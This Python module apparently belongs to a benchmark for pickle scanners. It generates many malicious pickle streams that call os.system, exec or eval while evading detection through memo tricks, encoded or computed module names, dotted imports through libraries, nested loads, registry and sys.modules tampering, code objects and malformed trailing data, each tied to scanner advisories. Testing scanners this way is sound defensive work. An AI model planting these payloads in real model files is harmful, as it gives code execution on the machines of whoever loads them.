"""Streams that hide what they import: memo, computed operands, registries, state, dotted names."""

from __future__ import annotations

import base64
import marshal
import struct
import zlib

from bench.scanner_attacks.pickle_forms import OLD, RUN, SYSTEM
from bench.scanner_attacks.stream import Call, Name, call, push, stream, text
from bench.scanner_attacks.techniques import COMMAND, SOURCE, Family

FAMILY = Family("pickle chains")
_ARGUMENTS = push((COMMAND,))
_IMPORT_OS = call("builtins", "__import__", "os")


_PROGRAM = marshal.dumps(compile("print('muniment-bench')", "bench", "exec"))


def _attribute(what: object, name: str) -> Call:
    return call("builtins", "getattr", what, name)


def _attribute_call(what: object, name: str, *arguments: object) -> Call:
    return Call(_attribute(what, name), arguments)


def _computed(module: bytes, attribute: bytes) -> bytes:
    return b"\x80\x04" + module + attribute + b"\x93" + _ARGUMENTS + b"R."


_JOINED = push(Call(call("builtins", "getattr", "", "join"), (["o", "s"],)))
_DECODED = push(call("_codecs", "decode", "flfgrz", "rot13"))
_MEMO = {
    "memo-put-and-memoize": (
        b"U\x02osq\0U\x06systemq\1"
        + text("torch._utils")
        + b"\x94"
        + text("_rebuild_tensor_v2")
        + b"\x94h\0h\1\x93("
        + text(COMMAND, 0)
        + b"tR."
    ),
    "memo-out-of-order": (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93("
        + text(COMMAND, 0)
        + b"tR."
    ),
    "memo-missing-key-after": (b"\x80\x04" + OLD + b"0" + text("os") + b"\x94h\x03h\0\x93K\x42."),
    "memo-wrong-type-after": (
        b"\x80\x04" + OLD + b"0J*\0\0\0\x94" + text("os") + b"\x94h\0h\1\x93K\x42."
    ),
    "memo-overwritten-name": (
        b"\x80\x04"
        + text("collections")
        + b"q\0"
        + text("OrderedDict")
        + b"q\1"
        + text("os")
        + b"q\0"
        + text("system")
        + b"q\1"
        + b"0000h\0h\1\x93"
        + _ARGUMENTS
        + b"R."
    ),
    "memo-long-index": (
        b"\x80\x04" + text("os") + b"r\xff\xff\0\0" + text("system") + b"r\0\0\1\0" + b"00j\xff\xff"
        b"\0\0j\0\0\1\0\x93" + _ARGUMENTS + b"R."
    ),
    "memo-text-index-padded": (
        b"Vos\np007\n0Vsystem\np+8\n0g 7\ng8\n\x93(" + text(COMMAND, 0) + b"tR."
    ),
    "memo-holds-callable": (
        b"\x80\x04"
        + push(Name("os", "system"))
        + b"\x940"
        + text("weights")
        + b"0h\0"
        + _ARGUMENTS
        + b"R."
    ),
    "memo-holds-arguments": (
        b"\x80\x04(" + text(COMMAND) + b"t\x940" + push(Name("os", "system")) + b"h\0R."
    ),
}
_COMPUTED = {
    "module-name-joined": _computed(_JOINED, text("system")),
    "attribute-name-decoded": _computed(text("os"), _DECODED),
    "both-names-from-bytes": _computed(
        push(call("_codecs", "decode", b"os", "utf-8")),
        push(call("_codecs", "decode", b"system", "utf-8")),
    ),
    "module-name-from-base64": _computed(
        push(call("_codecs", "decode", call("base64", "b64decode", "b3M="), "ascii")),
        text("system"),
    ),
    "module-name-reversed": _computed(
        push(Call(call("builtins", "getattr", "", "join"), (call("builtins", "reversed", "so"),))),
        text("system"),
    ),
    "attribute-from-str-replace": _computed(
        text("os"),
        push(Call(call("builtins", "getattr", "syXtem", "replace"), ("X", "s"))),
    ),
    "module-name-from-chr": _computed(
        push(
            call("_operator", "concat", call("builtins", "chr", 111), call("builtins", "chr", 115))
        ),
        text("system"),
    ),
}
_DOTTED = {
    "dotted-through-logging": ("logging", "os.system"),
    "dotted-through-torch": ("torch.serialization", "os.system"),
    "dotted-through-numpy": ("numpy.f2py", "os.system"),
    "dotted-through-joblib": ("joblib._parallel_backends", "os.system"),
    "dotted-through-sklearn": ("sklearn.utils._show_versions", "platform.os.system"),
    "dotted-through-pandas": ("pandas.io.common", "os.system"),
    "dotted-through-argparse": ("argparse", "_os.system"),
    "dotted-through-transformers": ("transformers.utils.hub", "os.system"),
    "module-alias-posixpath": ("posixpath", "os.system"),
    "submodule-asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "submodule-of-subprocess": ("concurrent.futures.process", "os.system"),
    "init-globals-by-dots": ("random", "_os.system"),
}
_NESTED = {
    "nested-pickle-loads": call("pickle", "loads", stream(SYSTEM)),
    "nested-underscore-pickle": call("_pickle", "loads", stream(SYSTEM)),
    "nested-torch-storage": call("torch.storage", "_load_from_bytes", stream(SYSTEM, 2)),
    "nested-pandas": call("pandas.compat.pickle_compat", "loads", stream(SYSTEM)),
    "nested-dill": call("dill", "loads", stream(SYSTEM)),
    "nested-cloudpickle": call("cloudpickle", "loads", stream(SYSTEM)),
    "nested-base64": call(
        "pickle", "loads", call("base64", "b64decode", base64.b64encode(stream(SYSTEM)).decode())
    ),
    "nested-zlib": call(
        "pickle", "loads", call("zlib", "decompress", zlib.compress(stream(SYSTEM)))
    ),
    "nested-five-deep": None,
    "nested-unpickler-object": Call(
        call(
            "builtins",
            "getattr",
            call("pickle", "Unpickler", call("io", "BytesIO", stream(SYSTEM))),
            "load",
        )
    ),
}


def _deep() -> bytes:
    inside = stream(SYSTEM)
    for _ in range(5):
        inside = stream(call("pickle", "loads", inside))
    return inside


_STATE = {
    "extension-code-1": b"\x80\x02\x82\x07" + push((COMMAND,), 2) + b"R.",
    "extension-code-2": b"\x80\x02\x83\x00\x01" + push((COMMAND,), 2) + b"R.",
    "extension-code-4": b"\x80\x02\x84\x00\x00\x01\x00" + push((COMMAND,), 2) + b"R.",
    "extension-registered-inside": (
        b"\x80\x04" + push(call("copyreg", "add_extension", "os", "system", 200)) + b"0\x82\xc8"
        + _ARGUMENTS + b"R."
    ),
    "extension-cache-by-state": (
        b"\x80\x04" + push(Name("copyreg", "_inverted_registry")) + b"K\xc8"
        + push(("os", "system")) + b"s0\x82\xc8" + _ARGUMENTS + b"R."
    ),
    "copyreg-pickle-registered": stream(
        call("copyreg", "pickle", Name("builtins", "complex"), Name("os", "system"))
    ),
    "state-sets-module-attribute": (
        b"\x80\x04" + push(Name("logging", "os")) + push({"getcwd": Name("builtins", "breakpoint")})
        + b"b."
    ),
    "state-sets-class-attribute": (
        b"\x80\x04" + push(Name("collections", "Counter")) + b"N"
        + push({"__setitem__": Name("builtins", "exec")}) + b"\x86b."
    ),
    "state-replaces-setstate": (
        b"\x80\x04" + push(call("argparse", "Namespace")) + b"}" + text("__setstate__")
        + push(Name("os", "system")) + b"sb" + text(COMMAND) + b"b."
    ),
    "state-sets-reduce-on-class": (
        b"\x80\x04" + push(Name("fractions", "Fraction")) + b"N"
        + push({"__reduce__": Name("os", "system")}) + b"\x86b."
    ),
    "sys-modules-overridden": (
        b"\x80\x04" + push(Name("sys", "modules")) + text("numpy") + push(_IMPORT_OS) + b"s0"
        + push(Name("numpy", "system")) + _ARGUMENTS + b"R."
    ),
    "sys-modules-sys-by-dict": (
        b"csys\nmodules\np0\n0g0\nVsys\ng0\ns0csys\nget\n(Vos\ntRp1\n0g0\nVsys\ng1\ns0csys\nsystem\n("
        + text(COMMAND, 0) + b"tR."
    ),
    "builtins-dict-item": (
        b"\x80\x04" + push(Call(call("builtins", "getattr", Name("builtins", "__dict__"), "get"),
        ("eval",))) + push((SOURCE,)) + b"R."
    ),
    "globals-of-a-function": stream(
        _attribute_call(
            Call(_attribute(_attribute(_attribute(Name("random", "choice"), "__func__"),
                                       "__globals__"), "get"), ("_os",)), "system", COMMAND)
    ),
    "class-method-by-dots": stream(
        Call(Name("bdb", "Bdb.run"), (call("bdb", "Bdb"), SOURCE))
    ),
    "rebuild-from-type": stream(
        call("torch._tensor", "_rebuild_from_type_v2", Name("os", "system"),
             Name("torch", "Tensor"), (COMMAND,), {})
    ),
    "dill-create-function": stream(
        Call(call("dill._dill", "_create_function",
             call("dill._dill", "_create_code", 0, 0, 0, 0, 1, 67, b"d\0S\0", (None,), (), (),
                  "f", "f", 1, b"", (), ()), {}))
    ),
    "cloudpickle-make-function": stream(
        call("cloudpickle.cloudpickle", "_make_function",
             call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), {}, None, None, None)
    ),
    "cloudpickle-subimport": stream(
        Call(call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", "os"),
                  "system"), (COMMAND,))
    ),
    "marshalled-function": stream(
        Call(call("types", "FunctionType", call("marshal", "loads", _PROGRAM), {}))
    ),
    "code-object": stream(
        Call(call("types", "FunctionType", call("types", "CodeType", 0, 0, 0, 0, 1, 67, b"d\0S\0",
             (None,), (), (), "f", "f", "f", 1, b"", b""), {}))
    ),
}  # fmt: skip
_BROKEN = {
    "broken-after-payload": b"\x80\x04" + RUN + b"X\xff\xff\xff\xffbroken",
    "broken-unknown-opcode": b"\x80\x04" + RUN + b"\xff\xff\xff.",
    "broken-no-stop": b"\x80\x04" + RUN,
    "broken-truncated-text": b"cbuiltins\nexec\n(X"
    + struct.pack("<I", len(SOURCE))
    + SOURCE.encode()
    + b"tRX.",
    "broken-empty-stack-after": b"\x80\x04" + RUN + b"000.",
    "broken-bad-utf8-after": b"\x80\x04" + RUN + b"\x8c\x02\xff\xfe.",
    "broken-missing-global-after": b"\x80\x04" + RUN + b"cno_such_module\nno_such_name\n.",
    "second-pickle-in-file": stream({"epoch": 1}) + stream(SYSTEM),
    "sixth-pickle-in-file": stream(["a"]) * 5 + stream(SYSTEM),
    "payload-after-stop-and-text": stream({"epoch": 1}) + b"\n\n\t  " + stream(SYSTEM),
    "payload-then-text": stream(SYSTEM) + b"\n\n\t\t",
    "old-talk-sour-pickles": (
        b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'pass'\nS''\nS'exec'\ntRp101\n0"
        b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\n"
        b"S'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'x'\nltRp104\n0g104\n."
    ),
}
_ADVISORIES = {
    "memo-put-and-memoize": ("picklescan issue 14",),
    "memo-out-of-order": ("picklescan issue 22",),
    "memo-missing-key-after": ("picklescan keyerror-exploit",),
    "memo-wrong-type-after": ("picklescan type-confusion-exploit",),
    "submodule-asyncio": ("CVE-2025-10157", "GHSA-q77w-mwjj-7mqx"),
    "nested-torch-storage": ("GHSA-h3qp-7fh3-f8h4",),
    "sys-modules-sys-by-dict": ("picklescan sys_module_override",),
    "marshalled-function": ("GHSA-565g-hwwr-4pp3", "CVE-2025-67747"),
    "code-object": ("picklescan types_CodeType",),
    "cloudpickle-make-function": ("picklescan cloudpickle_codeinjection",),
    "broken-after-payload": ("nullifAI", "ReversingLabs 2025"),
    "broken-truncated-text": ("picklescan broken_model",),
    "second-pickle-in-file": ("picklescan malicious6",),
    "old-talk-sour-pickles": ("Black Hat 2011",),
}
_LATENT = frozenset(
    {
        "extension-code-1",
        "extension-code-2",
        "extension-code-4",
        "payload-after-stop-and-text",
    }
)
"""What a plain load refuses or does not reach, and only a special loader would run."""

_NESTED_CODES = {
    name: _deep() if value is None else stream(value) for name, value in _NESTED.items()
}
_DOTTED_CODES = {name: stream(Call(Name(*names), (COMMAND,))) for name, names in _DOTTED.items()}
for _name, _code in {
    **_MEMO,
    **_COMPUTED,
    **_DOTTED_CODES,
    **_NESTED_CODES,
    **_STATE,
    **_BROKEN,
}.items():
    FAMILY.add(
        _name,
        "model.pkl",
        lambda code=_code: code,
        *_ADVISORIES.get(_name, ()),
        least="review" if _name in _LATENT else "malicious",
    )
